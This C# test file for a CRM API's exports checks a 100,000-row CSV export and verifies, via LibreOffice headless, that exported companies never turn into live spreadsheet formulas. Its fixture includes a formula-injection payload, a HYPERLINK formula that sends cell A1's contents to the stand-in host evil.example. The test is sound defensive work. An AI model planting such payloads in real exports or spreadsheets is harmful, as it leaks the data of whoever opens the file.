using System.Diagnostics;
using System.Net;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using OutlookCrm.Api.Data;
using OutlookCrm.Api.Import;
using OutlookCrm.Api.Tests.Import;
using OutlookCrm.Api.Tests.Infrastructure;

namespace OutlookCrm.Api.Tests.Export;

// Exports of any size, and what a spreadsheet makes of them (LibreOffice headless opens the files).
public abstract class ExportAtScaleTests : ApiTest
{
    [TestMethod]
    public async Task AHundredThousandActivitiesAllArriveWithTheBom()
    {
        var company = await NewCompany(As(Team.RepA), "Export Massif SARL", Team.RepA);
        App.WithDb(db =>
        {
            var start = new DateTime(2026, 1, 5, 8, 0, 0, DateTimeKind.Utc);
            for (var i = 0; i < 100_000; i++)
                db.Activities.Add(new OutlookCrm.Api.Data.Activity { Type = ActivityType.Call, Subject = $"Appel {i}, suivi \"devis\"", StartUtc = start.AddMinutes(i),
                    EndUtc = start.AddMinutes(i + 15), CompanyId = company.Id, OwnerId = Team.RepA.Id, Status = ActivityStatus.Done,
                    CreatedAt = start, Version = 1 });
            return db.SaveChanges();
        });

        var response = await As(Team.RepA).GetAsync("/api/export/activities.csv", HttpCompletionOption.ResponseHeadersRead);
        Assert.AreEqual(HttpStatusCode.OK, response.StatusCode);
        var bytes = await response.Content.ReadAsByteArrayAsync();

        CollectionAssert.AreEqual(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3], "UTF-8 with a BOM, as documented");
        using var csv = CsvHelper.CsvReader.Create(bytes, CsvHelper.CsvReaderOptions.Default with { Separator = ',' });
        var subjects = new HashSet<string>();
        while (csv.Read()) if (csv.GetString(3).StartsWith("Appel ")) subjects.Add(csv.GetString(3));
        Assert.AreEqual(100_000, subjects.Count, $"{bytes.Length:N0} bytes: every row arrived, none cut");
        Assert.IsTrue(subjects.Contains("Appel 99999, suivi \"devis\""));
    }

    [TestMethod]
    public async Task LibreOfficeShowsPhonesAndNumbersAsTheyAreAndNeverRunsAFormula()
    {
        var manager = As(Team.NorthManager);
        await (await manager.Import("formula-injection.csv")).Read<ImportSummary>();
        var dir = Directory.CreateTempSubdirectory("crm-lo-").FullName;
        await File.WriteAllBytesAsync(Path.Combine(dir, "companies.csv"), await manager.GetByteArrayAsync("/api/export/companies.csv"));
        await File.WriteAllBytesAsync(Path.Combine(dir, "companies.xlsx"), await manager.GetByteArrayAsync("/api/export/companies.xlsx"));

        // CSV as Excel and LibreOffice open it (comma, UTF-8, formulas evaluated), saved as xlsx to read the cells back.
        Soffice(dir, "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true", "--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir",
            Path.Combine(dir, "fromcsv"), Path.Combine(dir, "companies.csv"));
        Soffice(dir, "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir", Path.Combine(dir, "fromxlsx"), Path.Combine(dir, "companies.xlsx"));

        var converted = Path.Combine(dir, "fromcsv", "companies.xlsx");
        using (var doc = SpreadsheetDocument.Open(converted, false))
            Assert.AreEqual(0, doc.WorkbookPart!.WorksheetParts.Sum(w => w.Worksheet.Descendants<CellFormula>().Count()), "LibreOffice made no formula of any cell");
        using (var file = File.OpenRead(converted))
        using (var sheet = new XlsxSource(file, null))
        {
            var rows = sheet.Records().ToList();
            var evil = rows.Single(r => r.Fields[2].Contains("HYPERLINK"));
            StringAssert.Contains(evil.Fields[2], "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "the formula is kept as text");
            Assert.AreEqual("+33 1 00 00 00 00", evil.Fields[11], "the phone reads as written, no apostrophe");
            Assert.IsTrue(rows.Any(r => r.Fields[2].EndsWith("-2+3 Conseil")));
        }
        var fromXlsx = await File.ReadAllTextAsync(Path.Combine(dir, "fromxlsx", "companies.csv"));
        StringAssert.Contains(fromXlsx, "\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\"", "xlsx text cells stay text");
        StringAssert.Contains(fromXlsx, "+33 1 00 00 00 00");
        StringAssert.Contains(fromXlsx, "-2+3 Conseil");
        Directory.Delete(dir, true);
    }

    private static void Soffice(string dir, params string[] args)
    {
        var start = new ProcessStartInfo("soffice") { RedirectStandardOutput = true, RedirectStandardError = true };
        // A profile of its own: other LibreOffice instances on the machine must not capture the conversion.
        start.ArgumentList.Add($"-env:UserInstallation=file://{dir}/profile");
        start.ArgumentList.Add("--headless");
        foreach (var a in args) start.ArgumentList.Add(a);
        using var process = Process.Start(start)!;
        var output = process.StandardOutput.ReadToEnd() + process.StandardError.ReadToEnd();
        Assert.IsTrue(process.WaitForExit(TimeSpan.FromMinutes(2)), "soffice did not finish");
        Assert.AreEqual(0, process.ExitCode, output);
    }
}

[TestClass] public sealed class ExportAtScaleOnSqlite : ExportAtScaleTests { protected override Provider Provider => Provider.Sqlite; }
[TestClass] public sealed class ExportAtScaleOnPostgreSql : ExportAtScaleTests { protected override Provider Provider => Provider.PostgreSql; }
